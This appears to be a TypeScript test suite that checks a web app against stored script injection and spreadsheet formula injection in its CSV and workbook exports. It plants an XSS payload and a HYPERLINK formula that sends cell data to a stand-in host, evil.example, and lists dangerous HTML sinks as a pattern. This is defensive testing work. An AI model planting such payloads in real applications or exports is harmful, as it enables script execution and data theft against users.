// Scripts and formulas in every text that people may type: kept as text, answered as data, written as text.
import { afterAll, beforeAll, expect, test } from "vitest";
import type { z } from "zod";
import { exportSource } from "../../db/sync/export.store.ts";
import { exportRequest, exportInput } from "../../api/sync/export.schema.ts";
import { inertText } from "../../domain/core/export-cell.ts";
import { testApi, type TestApi, type TestBrowser } from "../support/api.ts";
import { type TestDatabase, testDatabase, type TestTenant } from "../support/database.ts";
import { call, guarded } from "../support/procedures.ts";
import { readSource, repositoryFiles } from "../support/source-files.ts";
import { storedRun } from "../support/stored-run.ts";
import { type StoredSync, storedSync } from "../support/stored-sync.ts";
import { planted, textFields } from "../support/text-fields.ts";
import { unzipped } from "../support/unzipped.ts";
import { attack } from "./attack.ts";

const script = `"><script><img onerror=alert(1)>`;
const formula = `=HYPERLINK("http://evil.example/?"&A1,"x")`;

let database: TestDatabase;
let api: TestApi;
let own: StoredSync;
let runs: readonly [string, string];
let owner: TestBrowser;

async function fill(tenant: TestTenant): Promise<readonly [StoredSync, string]> {
	const stored = await storedSync(database, api.deps.storage, tenant);
	return [stored, await storedRun(database, tenant, stored, { matches: 2, exceptions: 2 })];
}

beforeAll(async () => {
	database = await testDatabase();
	api = await testApi(database);
	const [alder, birch] = database.tenants;
	const first = await fill(alder);
	own = first[0];
	runs = [first[1], (await fill(birch))[1]];
	owner = await api.as(alder.users.owner.email);
});
afterAll(async () => {
	await api.close();
	await database.close();
});

/** Would end the company, the keys or the session that the others are tried with. */
const ends = /^(lifecycle|erasure|tenant\.(erase|close|cancel)|keys\.rotate)/;

attack("stored-script", () => {
	test("a script in each text of each change, and whatever reads it back, is answered as JSON that no browser runs", async () => {
		const [alder] = database.tenants;
		const kept: string[] = [];
		const answered = async (path: string, response: Response): Promise<string> => {
			const text = await response.text();
			expect([path, response.headers.get("content-type")?.split(";")[0], response.headers.get("x-content-type-options")]).toEqual([
				path,
				"application/json",
				"nosniff",
			]);
			expect([path, response.status >= 500], text).toEqual([path, false]);
			return text;
		};
		for (const procedure of guarded.filter(({ type, path, input }) => type === "mutation" && input !== undefined && !ends.test(path))) {
			const input = procedure.input as z.core.$ZodType;
			const fields = textFields(input).filter(({ free }) => free);
			for (const id of [alder.entityId, own.connectionId, own.jobId]) {
				const response = await call(
					owner,
					procedure,
					planted(
						input,
						id,
						fields.map(({ path }) => path),
						script,
					),
				);
				await answered(procedure.path, response);
				if (response.ok) kept.push(procedure.path);
			}
		}
		expect(kept).toEqual(expect.arrayContaining(["access.request", "apiKeys.create", "incidents.create", "tenant.update"]));
		let read = 0;
		for (const procedure of guarded.filter(({ type }) => type === "query")) {
			const input = procedure.input === undefined ? undefined : planted(procedure.input, alder.entityId, [], "");
			if ((await answered(procedure.path, await call(owner, procedure, input))).includes("onerror=alert(1)")) read += 1;
		}
		expect(read).toBeGreaterThan(2);
	});

	test("a script in an address is not in the page, whose policy runs only files of its own", async () => {
		for (const path of [
			`/jobs/${encodeURIComponent(script)}`,
			`/login?then=${encodeURIComponent(script)}`,
			"/api/docs",
			`/x/%3Cscript%3E`,
		]) {
			const response = await owner.fetch(path);
			const policy = response.headers.get("content-security-policy") ?? "";
			expect([path, (await response.text()).includes("onerror")]).toEqual([path, false]);
			expect(policy.match(/script-src ([^;]*)/)?.[1]).toBe("'self'");
			for (const part of ["script-src-attr 'none'", "object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'"])
				expect(policy).toContain(part);
		}
	});

	test("an uploaded page never comes back as a page", async () => {
		const sent = await owner.fetch(`/files/upload?name=${encodeURIComponent("<img src=x onerror=alert(1)>.html")}`, {
			method: "POST",
			headers: { "content-type": "text/html" },
			body: `<script>alert(1)</script>`,
		});
		for (const response of [sent, await owner.fetch("/trpc/files.list?input=%7B%7D")])
			expect([response.headers.get("content-type")?.split(";")[0], response.headers.get("x-content-type-options")]).toEqual([
				"application/json",
				"nosniff",
			]);
	});

	test("no page puts text into itself as markup", () => {
		const pages = repositoryFiles().filter((path) => path.startsWith("web/src/") && /\.tsx?$/.test(path) && !/\.test\.tsx?$/.test(path));
		expect(pages.length).toBeGreaterThan(100);
		const sinks =
			/dangerouslySetInnerHTML|\.(inner|outer)HTML\b|insertAdjacentHTML|document\.write|\beval\(|new Function\(|srcdoc|createContextualFragment|javascript:/i;
		expect(pages.filter((path) => sinks.test(readSource(path)))).toEqual([]);
	});
});

attack("formula-cells", () => {
	const lists = (runId: string) =>
		[
			{ list: "explorer", filter: { kind: "balance_entry" } },
			{ list: "jobs", filter: {} },
			{ list: "audit", filter: {} },
			{ list: "payouts", filter: { runId } },
			{ list: "exceptions", filter: { runId } },
			{ list: "matches", filter: { runId } },
		] as const;
	const body = (of: ReturnType<typeof lists>[number], format: "csv" | "xlsx") => {
		const asked = { ...of, format, title: formula, columns: [{ id: "x", title: "x" }], words: [{ label: formula, value: `\t${formula}` }] };
		const { columns } = exportSource(exportRequest(exportInput.parse(asked)));
		return { ...asked, columns: columns.map(({ id }, i) => ({ id, title: i === 0 ? `@${formula}` : id })) };
	};
	const file = async (of: ReturnType<typeof lists>[number], format: "csv" | "xlsx"): Promise<Response> => {
		const headers = { "content-type": "application/json" };
		const response = await owner.fetch("/exports", { method: "POST", headers, body: JSON.stringify(body(of, format)) });
		expect([of.list, response.status]).toEqual([of.list, 200]);
		expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w &.-]+"/);
		return response;
	};

	beforeAll(async () => {
		const [alder] = database.tenants;
		await database.withTenant(alder, async (em) => {
			for (const column of ["description", "reference", "group_reference", "related_key", "document", "account"])
				await em.execute(`update canonical_rows set ${column} = ?`, [formula]);
			await em.execute("update jobs set title = ?, business_key = ?", [`+${formula}`, `-${formula}`]);
		});
		await owner.trpc.roles.create.mutate({ name: formula, description: formula, permissions: ["jobs.read"] });
		await owner.trpc.users.remove.mutate({ userId: alder.users.analyst.userId, reason: `\t@${formula}` });
	});

	test("no cell of any list's CSV is run by a spreadsheet, whatever separator it reads by", async () => {
		let marked = 0;
		for (const of of lists(runs[0])) {
			const text = await (await file(of, "csv")).text();
			for (const cell of cellsOf(text)) expect([of.list, inertText(cell)]).toEqual([of.list, cell]);
			marked += text.split("'=").length - 1;
		}
		expect(marked).toBeGreaterThan(5);
	});

	test("no cell of any list's workbook is a formula or a link", async () => {
		let texts = 0;
		for (const of of lists(runs[0])) {
			const files = unzipped(Buffer.from(await (await file(of, "xlsx")).arrayBuffer()));
			for (const [name, xml] of Object.entries(files)) {
				expect([of.list, name, /<f[\s>]|<hyperlink|<externalLink|TargetMode="External"|ddeLink/.test(xml)]).toEqual([of.list, name, false]);
				texts += xml.split("evil.example").length - 1;
			}
		}
		expect(texts).toBeGreaterThan(5);
	});

	test("another company's rows are in none of the files", async () => {
		for (const of of lists(runs[1])) expect(await (await file(of, "csv")).text()).not.toContain("GBP");
	});
});

/** RFC 4180. */
function cellsOf(csv: string): string[] {
	return [...csv.matchAll(/"((?:[^"]|"")*)"|([^",\r\n]+)/g)].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "");
}
